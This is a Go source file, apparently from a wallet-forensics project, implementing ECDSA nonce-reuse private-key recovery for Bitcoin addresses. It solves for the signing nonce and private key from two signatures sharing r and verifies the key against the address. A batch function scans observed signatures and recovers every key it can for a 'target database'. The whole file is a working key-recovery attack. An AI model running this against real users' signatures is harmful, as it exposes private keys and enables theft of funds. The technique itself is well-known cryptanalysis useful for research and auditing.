// Package forensic implements ECDSA nonce-reuse private-key recovery:
// given two signatures over different messages that share the same
// per-signature nonce (and therefore the same r), the signing scalar can be
// solved for directly. This is the one module in the core driven by
// externally observed signatures rather than a reconstructed PRNG.
package forensic

import (
	"crypto/sha256"
	"errors"
	"fmt"

	"github.com/btcsuite/btcd/btcutil/base58"

	"github.com/wallet-forensics/core/internal/curve"
	"github.com/wallet-forensics/core/internal/hashbits"
)

// ErrNotNonceReuse marks a same-r pair that is not actually a nonce-reuse
// case: identical z values mean the pair is a duplicate broadcast of the
// same signature, not two distinct signatures under one nonce.
var ErrNotNonceReuse = errors.New("forensic: same r and z is a duplicate signature, not nonce reuse")

// ErrRecoveredKeyInvalid marks a candidate private key outside [1, n) or
// one that, re-derived to a public key, does not match the signatures'
// claimed address — the arithmetic succeeded but produced nonsense, which
// only happens if the two input signatures did not actually share a nonce.
var ErrRecoveredKeyInvalid = errors.New("forensic: recovered key failed verification")

// SignatureRecord is one externally observed ECDSA signature over a
// message hash, keyed by the signing address it claims. Parsing whatever
// external format carries these (CSV, JSON, a block explorer API) belongs
// to the caller — this package consumes already-parsed records.
type SignatureRecord struct {
	Address string
	R       [32]byte
	S       [32]byte
	Z       [32]byte // the signed message hash (already double-SHA256'd)
}

// RecoveryResult is one successfully recovered private key, ready for
// import into the target database under NonceReuseECDSA.
type RecoveryResult struct {
	Address    string
	PrivateKey [32]byte
	Hash160    [20]byte
	PublicKey  [33]byte
}

// RecoverFromReusedNonce solves for the private key given two signatures
// that share r but have differing z, using the standard nonce-reuse
// identities:
//
//	k = (z1 - z2) * (s1 - s2)^-1 mod n
//	d = (s1*k - z1) * r^-1 mod n
//
// The recovered d is validated by re-deriving its public key and checking
// it matches the address the two records claim — both signatures must
// therefore come from the same signer, not merely share an r by
// coincidence (which the curve math alone cannot rule out).
func RecoverFromReusedNonce(a, b SignatureRecord) (RecoveryResult, error) {
	if a.R != b.R {
		return RecoveryResult{}, fmt.Errorf("forensic: records do not share r")
	}
	if a.Z == b.Z {
		return RecoveryResult{}, ErrNotNonceReuse
	}

	zDiff, err := curve.SubModN(a.Z, b.Z)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: z difference: %w", err)
	}
	sDiff, err := curve.SubModN(a.S, b.S)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: s difference: %w", err)
	}
	sDiffInv, err := curve.InverseModN(sDiff)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: s difference not invertible: %w", err)
	}
	k, err := curve.MulModN(zDiff, sDiffInv)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: recover k: %w", err)
	}

	sk, err := curve.MulModN(a.S, k)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: s*k: %w", err)
	}
	skMinusZ, err := curve.SubModN(sk, a.Z)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: s*k - z: %w", err)
	}
	rInv, err := curve.InverseModN(a.R)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: r not invertible: %w", err)
	}
	d, err := curve.MulModN(skMinusZ, rInv)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: recover d: %w", err)
	}

	if !curve.IsValidScalar(d) {
		return RecoveryResult{}, ErrRecoveredKeyInvalid
	}

	pub, err := curve.VerifiedScalarBaseMult(d)
	if err != nil {
		return RecoveryResult{}, fmt.Errorf("forensic: %w: %v", ErrRecoveredKeyInvalid, err)
	}
	compressed := pub.Compressed()
	hash160 := hashbits.Hash160(compressed[:])

	if !addressMatchesHash160(a.Address, hash160) {
		return RecoveryResult{}, ErrRecoveredKeyInvalid
	}

	return RecoveryResult{
		Address:    a.Address,
		PrivateKey: d,
		Hash160:    hash160,
		PublicKey:  compressed,
	}, nil
}

// RecoverAll groups records by shared r and attempts recovery on every
// distinct pair within a group, returning every successful recovery.
// ErrNotNonceReuse pairs (duplicate broadcasts) are silently skipped; any
// other error from a pair is likewise skipped rather than aborting the
// whole batch, since one malformed or coincidental-r pair should not block
// recovery of the rest.
func RecoverAll(records []SignatureRecord) []RecoveryResult {
	byR := make(map[[32]byte][]SignatureRecord)
	for _, rec := range records {
		byR[rec.R] = append(byR[rec.R], rec)
	}

	var results []RecoveryResult
	for _, group := range byR {
		if len(group) < 2 {
			continue
		}
		for i := 0; i < len(group); i++ {
			for j := i + 1; j < len(group); j++ {
				result, err := RecoverFromReusedNonce(group[i], group[j])
				if err != nil {
					continue
				}
				results = append(results, result)
			}
		}
	}
	return results
}

// addressMatchesHash160 checks a Base58Check P2PKH address string decodes
// to the given hash160, without importing package address (and, through
// it, vulnclass); this package only ever needs the P2PKH form signatures
// are published against.
func addressMatchesHash160(addr string, hash160 [20]byte) bool {
	decoded := base58.Decode(addr)
	if len(decoded) != 25 {
		return false
	}
	payload := decoded[:21]
	checksum := decoded[21:]
	first := sha256.Sum256(payload)
	second := sha256.Sum256(first[:])
	if string(second[:4]) != string(checksum) {
		return false
	}
	var addrHash [20]byte
	copy(addrHash[:], decoded[1:21])
	return addrHash == hash160
}
